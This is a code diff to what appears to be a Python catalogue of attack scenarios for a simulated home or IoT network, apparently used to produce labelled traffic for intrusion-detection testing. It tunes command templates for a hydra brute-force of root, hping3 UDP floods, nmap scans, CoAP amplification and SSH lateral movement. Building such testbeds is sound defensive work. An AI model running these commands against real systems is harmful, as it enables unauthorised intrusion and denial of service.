@@ -73,12 +73,14 @@ def carry_data(home, attacker):
     home.segment.end(tunnel)
 
 
-HYDRA = "hydra -I -l root -P {guesses} -t 4 {storage}"
-FLOOD = "hping3 -q -i u500 -c 8000"
+HYDRA = "hydra -I -w 5 -l root -P {guesses} -t 4 {storage}"
+FLOOD = "hping3 -q -i u200 -c 15000"
 
 ATTACKS = [
     # Scans.
     Attack("scan of a host's TCP ports", "nmap", "nmap", ["vertical-scan"], words("nmap -n -Pn -sS {storage}")),
+    Attack("slow scan of a host's TCP ports", "nmap", "nmap", ["vertical-scan"],
+           words("nmap -n -Pn -sS -T2 --top-ports 50 {storage}")),
     Attack("scan of a host's UDP ports", "nmap", "nmap", ["vertical-scan"],
            words("nmap -n -Pn -sU --top-ports 100 --max-retries 1 {hub}")),
     Attack("search for hosts of the segment", "nmap", "nmap", ["arp-sweep"], words("nmap -n -sn {home}")),
@@ -126,7 +128,7 @@ ATTACKS = [
     Attack("CoAP asked from the Internet for large answers", "coap-client-notls", "libcoap3-bin", ["coap-amplification"],
            words("for n in $(seq 15); do coap-client-notls -a {web} -B 2 coap://{lamp}/log; done"), by="cloud", about="lamp"),
     Attack("UDP flood of the camera from the Internet", "hping3", "hping3", ["flood-in"],
-           words("hping3 -q -i u500 -c 40000 -2 -p 9 -d 64 {camera}"), by="cloud", about="camera", after=400),
+           words("hping3 -q -i u200 -c 75000 -2 -p 9 -d 64 {camera}"), by="cloud", about="camera", after=400),
     # Things that were taken over.
     Attack("SSH to a neighbour, by the motion sensor", "ssh", "openssh-client", ["lateral-movement"],
            words("ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null root@{storage}"),
